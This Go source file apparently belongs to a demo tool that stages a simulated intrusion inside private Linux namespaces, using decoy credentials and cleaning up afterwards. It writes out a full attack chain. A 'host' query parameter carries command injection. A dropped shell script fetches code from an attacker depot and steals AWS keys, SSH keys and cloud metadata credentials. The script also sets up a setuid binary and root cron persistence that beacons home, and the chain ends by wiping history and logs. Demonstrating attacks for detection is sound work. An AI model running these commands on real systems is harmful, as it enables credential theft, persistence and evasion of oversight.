//go:build linux

package demo

import (
	"context"
	"crypto/rand"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// A script is what the stage is told on its standard input.
type script struct {
	Plan Plan
	Own  bool          // the stage has namespaces of its own
	Pace time.Duration // pause between the attacker's requests
}

// errRefused marks errors that say the host does not allow such a stage.
var errRefused = errors.New("refused")

// runStage sets the stage, plays the attack on it and clears it away.
func runStage(ctx context.Context, _ []string) error {
	var s stage
	if err := json.NewDecoder(os.Stdin).Decode(&s.script); err != nil {
		return fmt.Errorf("script: %w", err)
	}
	err := s.run(ctx)
	err = errors.Join(err, s.clear())
	if err != nil {
		s.tell(message{Error: err.Error(), Refused: errors.Is(err, errRefused)})
	}
	return err
}

// A stage is where an attack is played, with the attacker's side of it: the
// requests come from this process, and it serves what the attacker serves.
type stage struct {
	script
	mounted  bool
	secret   string     // path of the check
	services []*service // started, to be ended
	servers  []*http.Server
	beacon   chan struct{} // gets a value when the dropped program calls home
}

type service struct {
	cmd    *exec.Cmd
	exited chan error
}

func (s *stage) tell(m message) {
	// Nobody to tell is nobody to tell about that either.
	_ = json.NewEncoder(os.Stdout).Encode(m)
}

func (s *stage) path(rel string) string { return s.Plan.path(rel) }

func (s *stage) run(ctx context.Context) error {
	if s.Own {
		if err := s.privateMount(); err != nil {
			return fmt.Errorf("%w: %w", errRefused, err)
		}
		if err := s.privateNetwork(); err != nil {
			return fmt.Errorf("%w: %w", errRefused, err)
		}
	}
	s.secret = "/" + rand.Text() + "/check"
	s.beacon = make(chan struct{}, 8)
	if err := s.build(); err != nil {
		return fmt.Errorf("set the stage: %w", err)
	}
	if err := s.serve(ctx); err != nil {
		return fmt.Errorf("set the stage: %w", err)
	}
	return s.play(ctx)
}

// privateMount puts a file system in memory where the plan's root is. Only
// processes of this mount namespace see it, and it ends with the last of them.
func (s *stage) privateMount() error {
	if err := unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, ""); err != nil {
		return fmt.Errorf("make mounts private: %w", err)
	}
	if err := unix.Mount("clew-demo", s.Plan.Root, "tmpfs", unix.MS_NOSUID|unix.MS_NODEV, "size=192m,mode=0755"); err != nil {
		return fmt.Errorf("mount a file system in memory: %w", err)
	}
	s.mounted = true
	return nil
}

// privateNetwork brings up the loopback device of this network namespace and
// gives it the addresses of the plan.
func (s *stage) privateNetwork() error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	p := s.Plan
	addrs := []netip.Addr{netip.AddrFrom4([4]byte{127, 0, 0, 1}), p.Service.Addr(), p.Client, p.Depot.Addr(), p.Metadata.Addr()}
	for i, a := range addrs {
		name := "lo"
		if i > 0 {
			name = fmt.Sprintf("lo:%d", i)
		}
		ifr, err := unix.NewIfreq(name)
		if err != nil {
			return err
		}
		if err := ifr.SetInet4Addr(a.AsSlice()); err != nil {
			return err
		}
		if err := unix.IoctlIfreq(fd, unix.SIOCSIFADDR, ifr); err != nil {
			return fmt.Errorf("add address %s: %w", a, err)
		}
	}
	ifr, err := unix.NewIfreq("lo")
	if err != nil {
		return err
	}
	ifr.SetUint16(unix.IFF_UP | unix.IFF_RUNNING | unix.IFF_LOOPBACK)
	if err := unix.IoctlIfreq(fd, unix.SIOCSIFFLAGS, ifr); err != nil {
		return fmt.Errorf("bring up the loopback device: %w", err)
	}
	return nil
}

// build makes the files of the attacked host: the service, the runner and the
// download program, which are this program under other names, and decoys.
func (s *stage) build() error {
	files := []struct{ rel, text string }{
		{awsPath, "[default]\naws_access_key_id = DECOY\naws_secret_access_key = decoy-of-the-clew-demo\n"},
		{sshPath, "This is a decoy of the clew demo, not a key.\n"},
		{historyPath, "ls\ncd /srv\n./deploy.sh\n"},
	}
	dirs := []string{httpdPath, outputPath, cronPath, fetchPath, updaterPath, setuidPath, tablePath, logPath}
	for _, f := range files {
		dirs = append(dirs, f.rel)
	}
	for _, d := range dirs {
		if err := os.MkdirAll(filepath.Dir(s.path(d)), 0o755); err != nil {
			return err
		}
	}
	for _, f := range files {
		if err := newFile(s.path(f.rel), f.text); err != nil {
			return err
		}
	}
	if err := copyFile(s.path(httpdPath), "/proc/self/exe", 0o755); err != nil {
		return err
	}
	for _, rel := range []string{cronPath, fetchPath} {
		if err := os.Link(s.path(httpdPath), s.path(rel)); err != nil {
			return err
		}
	}
	return nil
}

// newFile writes a file that is not there yet. It does not truncate: setting
// the stage must not look like a part of the attack.
func newFile(name, text string) (err error) {
	f, err := os.OpenFile(name, os.O_CREATE|os.O_EXCL|os.O_WRONLY, 0o600)
	if err != nil {
		return err
	}
	defer func() { err = errors.Join(err, f.Close()) }()
	_, err = f.WriteString(text)
	return err
}

func copyFile(to, from string, mode fs.FileMode) (err error) {
	in, err := os.Open(from)
	if err != nil {
		return err
	}
	defer in.Close()
	out, err := os.OpenFile(to, os.O_CREATE|os.O_EXCL|os.O_WRONLY, mode)
	if err != nil {
		return err
	}
	defer func() { err = errors.Join(err, out.Close()) }()
	_, err = io.Copy(out, in)
	return err
}

// serve starts the attacker's file server and the stand-in of the metadata
// service, and fills in the ports that the plan left open.
func (s *stage) serve(ctx context.Context) error {
	depot := http.NewServeMux()
	depot.HandleFunc("GET /updater", func(w http.ResponseWriter, _ *http.Request) {
		io.WriteString(w, s.updater())
	})
	depot.HandleFunc("GET /orders", func(w http.ResponseWriter, _ *http.Request) {
		io.WriteString(w, "none\n")
		select {
		case s.beacon <- struct{}{}:
		default: // the first call is the one waited for
		}
	})
	meta := http.NewServeMux()
	meta.HandleFunc("GET /latest/meta-data/iam/security-credentials/", func(w http.ResponseWriter, _ *http.Request) {
		io.WriteString(w, `{"Code":"Success","AccessKeyId":"DECOY","Token":"decoy-of-the-clew-demo"}`+"\n")
	})
	for _, sv := range []struct {
		at *netip.AddrPort
		h  http.Handler
	}{{&s.Plan.Depot, depot}, {&s.Plan.Metadata, meta}} {
		l, err := listen(ctx, sv.at.String())
		if err != nil {
			return err
		}
		if *sv.at, err = netip.ParseAddrPort(l.Addr().String()); err != nil {
			return err
		}
		srv := &http.Server{Handler: sv.h, ReadHeaderTimeout: 5 * time.Second}
		s.servers = append(s.servers, srv)
		go srv.Serve(l) // ends with clear
	}
	return nil
}

// updater is the program that the attacker drops. Called with a word it calls
// home; without, it takes what it finds and stays.
func (s *stage) updater() string {
	return strings.NewReplacer(
		"@DEPOT@", host(s.Plan.Depot), "@METADATA@", host(s.Plan.Metadata),
		"@AWS@", s.path(awsPath), "@SSH@", s.path(sshPath), "@LOOT@", s.path(lootPath), "@ROLE@", s.path(rolePath),
		"@TRUE@", coreutil("true"), "@HELPER@", s.path(setuidPath),
		"@TABLE@", s.path(tablePath), "@SELF@", s.path(updaterPath), "@ORDERS@", s.path(ordersPath),
	).Replace(`#!/bin/sh
# Dropped by the attack that "clew demo" plays; harmless.
if [ "$1" = report ]; then
	exec fetch -o @ORDERS@ http://@DEPOT@/orders
fi
cat @AWS@ >> @LOOT@
cat @SSH@ >> @LOOT@
fetch -o @ROLE@ http://@METADATA@/latest/meta-data/iam/security-credentials/
cp @TRUE@ @HELPER@
chmod 4755 @HELPER@
echo '* * * * * root @SELF@ report' > @TABLE@
`)
}

// host returns an address as it stands in a web address.
func host(a netip.AddrPort) string {
	if a.Port() == 80 {
		return a.Addr().String()
	}
	return a.String()
}

// coreutil returns the path of a program that every system has.
func coreutil(name string) string {
	if p, err := exec.LookPath(name); err == nil {
		return p
	}
	return "/bin/" + name
}

// start runs one of the attacked host's services: detached, in a session of
// its own, without a terminal. It returns when the service says it is ready.
func (s *stage) start(ctx context.Context, rel string, args ...string) error {
	readEnd, writeEnd, err := os.Pipe()
	if err != nil {
		return err
	}
	defer readEnd.Close()
	cmd := exec.Command(s.path(rel), args...)
	cmd.Dir = s.Plan.Root
	cmd.Stderr = os.Stderr
	cmd.ExtraFiles = []*os.File{writeEnd}
	cmd.Env = []string{
		"PATH=" + filepath.Dir(s.path(fetchPath)) + ":/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
		"HOME=/", "LC_ALL=C", stageEnv + "=1",
	}
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	err = cmd.Start()
	writeEnd.Close()
	if err != nil {
		return err
	}
	sv := &service{cmd: cmd, exited: make(chan error, 1)}
	s.services = append(s.services, sv)
	go func() { sv.exited <- cmd.Wait() }()
	defer context.AfterFunc(ctx, func() { readEnd.Close() })()
	if n, err := readEnd.Read(make([]byte, 1)); n != 1 {
		return fmt.Errorf("%s did not start: %w", filepath.Base(rel), errors.Join(err, ctx.Err()))
	}
	return nil
}

// play is the attack. After each part it looks for the part's effect, so that
// a step is told as played only when it was.
func (s *stage) play(ctx context.Context) error {
	addrFile := s.path(addrPath)
	err := s.start(ctx, httpdPath, "-listen", s.Plan.Service.String(), "-path", s.secret, "-log", s.path(logPath), "-addr", addrFile)
	if err != nil {
		return err
	}
	if err := s.start(ctx, cronPath, filepath.Dir(s.path(tablePath))); err != nil {
		return err
	}
	addr, err := os.ReadFile(addrFile)
	if err != nil {
		return err
	}
	if s.Plan.Service, err = netip.ParseAddrPort(string(addr)); err != nil {
		return err
	}
	s.tell(message{Done: "service"})

	if _, err := s.inject(ctx, "id > "+s.path(outputPath)); err != nil {
		return err
	}
	if err := s.check("injection", s.notEmpty(outputPath)); err != nil {
		return err
	}

	seen, err := s.inject(ctx, "uname -a; cat /etc/passwd; ls -la "+s.path("home/deploy"))
	if err != nil {
		return err
	}
	passwd, err := os.ReadFile("/etc/passwd")
	if err == nil && !strings.Contains(seen, string(passwd)) {
		err = errors.New("the accounts were not shown")
	}
	if err := s.check("discovery", err); err != nil {
		return err
	}

	u := s.path(updaterPath)
	if _, err := s.inject(ctx, fmt.Sprintf("fetch -o %s http://%s/updater", u, host(s.Plan.Depot))); err != nil {
		return err
	}
	if err := s.check("download", s.notEmpty(updaterPath)); err != nil {
		return err
	}
	if _, err := s.inject(ctx, fmt.Sprintf("chmod +x %s; %s", u, u)); err != nil {
		return err
	}
	loot, err := os.ReadFile(s.path(lootPath))
	if err := s.check("execution", err); err != nil {
		return err
	}
	for _, c := range []struct {
		step string
		err  error
	}{
		{"cloud-credentials", contains(loot, "aws_access_key_id")},
		{"ssh-key", contains(loot, "not a key")},
		{"metadata", s.notEmpty(rolePath)},
		{"setuid", s.isSetuid()},
		{"cron-entry", s.notEmpty(tablePath)},
	} {
		if err := s.check(c.step, c.err); err != nil {
			return err
		}
	}

	if err := s.check("persistence", s.waitBeacon(ctx)); err != nil {
		return err
	}

	if _, err := s.inject(ctx, fmt.Sprintf(": > %s; rm -f %s %s", s.path(historyPath), s.path(logPath), u)); err != nil {
		return err
	}
	st, err := os.Stat(s.path(historyPath))
	if err == nil && st.Size() != 0 {
		err = errors.New("the history is still there")
	}
	if err := s.check("history", err); err != nil {
		return err
	}
	return s.check("log", errors.Join(s.gone(logPath), s.gone(updaterPath)))
}

func (s *stage) check(step string, err error) error {
	if err != nil {
		return fmt.Errorf("step %s: %w", step, err)
	}
	s.tell(message{Done: step})
	return nil
}

func (s *stage) notEmpty(rel string) error {
	st, err := os.Stat(s.path(rel))
	if err == nil && st.Size() == 0 {
		err = fmt.Errorf("%s is empty", s.path(rel))
	}
	return err
}

func (s *stage) isSetuid() error {
	st, err := os.Stat(s.path(setuidPath))
	if err == nil && st.Mode()&fs.ModeSetuid == 0 {
		err = fmt.Errorf("%s is %s", s.path(setuidPath), st.Mode())
	}
	return err
}

func (s *stage) gone(rel string) error {
	switch _, err := os.Lstat(s.path(rel)); {
	case errors.Is(err, fs.ErrNotExist):
		return nil
	case err != nil:
		return err
	default:
		return fmt.Errorf("%s is still there", s.path(rel))
	}
}

func contains(data []byte, text string) error {
	if !strings.Contains(string(data), text) {
		return fmt.Errorf("%q was not taken", text)
	}
	return nil
}

// inject asks the service to check a host whose name is also a command, from
// the attacker's address, and returns the answer.
func (s *stage) inject(ctx context.Context, command string) (string, error) {
	select {
	case <-time.After(s.Pace):
	case <-ctx.Done():
		return "", ctx.Err()
	}
	ctx, cancel := context.WithTimeout(ctx, 10*time.Second)
	defer cancel()
	from := web(net.Dialer{LocalAddr: &net.TCPAddr{IP: s.Plan.Client.AsSlice()}})
	u := url.URL{Scheme: "http", Host: s.Plan.Service.String(), Path: s.secret,
		RawQuery: url.Values{"host": {"localhost; " + command}}.Encode()}
	body, err := get(ctx, from, u.String())
	return string(body), err
}

// waitBeacon waits until the dropped program, started by the cron runner,
// calls home.
func (s *stage) waitBeacon(ctx context.Context) error {
	ctx, cancel := context.WithTimeoutCause(ctx, 5*time.Second, errors.New("the cron runner did not run the entry"))
	defer cancel()
	select {
	case <-s.beacon:
		return nil
	case <-ctx.Done():
		return context.Cause(ctx)
	}
}

// clear ends what the stage started and removes what it made. In namespaces of
// its own the end of this process does both once more.
func (s *stage) clear() error {
	for _, sv := range s.services {
		// Its session is a process group of the same number.
		_ = unix.Kill(-sv.cmd.Process.Pid, unix.SIGKILL)
		<-sv.exited
	}
	for _, srv := range s.servers {
		srv.Close()
	}
	if s.mounted || s.Own {
		return nil
	}
	entries, err := os.ReadDir(s.Plan.Root)
	if err != nil {
		return fmt.Errorf("clear the stage: %w", err)
	}
	for _, e := range entries {
		err = errors.Join(err, os.RemoveAll(s.path(e.Name())))
	}
	return err
}
